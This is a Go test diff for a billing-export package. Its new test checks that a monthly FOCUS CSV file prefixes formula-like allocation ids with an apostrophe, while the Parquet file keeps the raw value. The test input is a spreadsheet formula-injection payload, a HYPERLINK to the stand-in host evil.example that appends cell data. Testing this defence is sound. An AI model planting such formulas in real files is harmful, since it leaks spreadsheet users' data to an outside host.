@@ -2,10 +2,15 @@ package focus
 
 import (
 	"bytes"
+	"context"
 	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"math"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
 	"testing"
 	"time"
 
@@ -191,5 +196,43 @@ func TestCSVFormulaCells(t *testing.T) {
 		if pq[0].XAllocationID == nil || *pq[0].XAllocationID != id || pq[0].ChargeDescription != r.ChargeDescription {
 			t.Errorf("Parquet x_AllocationId %v, ChargeDescription %q: want the raw %q", pq[0].XAllocationID, pq[0].ChargeDescription, id)
 		}
+	}
+}
+
+// TestMonthFilesFormulaCells: the period close's focus-YYYY-MM.csv writes a formula
+// allocation id with a leading ' in x_AllocationId and ChargeDescription; the .parquet beside
+// it keeps the raw id.
+func TestMonthFilesFormulaCells(t *testing.T) {
+	const id = `=HYPERLINK("http://evil.example/?x="&A2,"click")`
+	p := PeriodOf(time.Date(2026, 2, 1, 0, 0, 0, 0, time.UTC), time.UTC)
+	e := Export{Report: func(_ context.Context, from, to time.Time) (report.Report, error) {
+		rep := report.Report{WindowStart: from, WindowEnd: to, Currency: "USD"}
+		if from.Equal(p.Start) { // one hour billed: one Usage row
+			rep.Allocations = []report.AllocationRow{{Tenant: "acme", AllocationID: id, Tier: "pro", Node: "n", Instance: "gpu0", Kind: "gpu",
+				Model: "A100-SXM4-40GB", Fraction: 1, Allocated: time.Hour, Cost: 1, ListCost: 1, Currency: "USD", WindowStart: from, WindowEnd: to}}
+		}
+		return rep, nil
+	}}
+	dir := t.TempDir()
+	if _, err := (&ExportFlags{Dir: dir, Issuer: "GPU Cloud Inc."}).Month(context.Background(), e, p, report.Report{}); err != nil {
+		t.Fatal(err)
+	}
+	f, err := os.Open(filepath.Join(dir, "focus-"+p.Name+".csv"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	rows, err := csv.NewReader(f).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("%d rows, %v", len(rows), err)
+	}
+	for _, col := range []string{"x_AllocationId", "ChargeDescription"} {
+		if got := rows[1][slices.Index(rows[0], col)]; !strings.HasPrefix(got, "'"+id) {
+			t.Errorf("%s %q, want it to start with '%s", col, got, id)
+		}
+	}
+	pq, err := parquet.ReadFile[Row](filepath.Join(dir, "focus-"+p.Name+".parquet"))
+	if err != nil || len(pq) != 1 || pq[0].XAllocationID == nil || *pq[0].XAllocationID != id {
+		t.Errorf("Parquet: %v, %d rows; want the raw id", err, len(pq))
 	}
 }
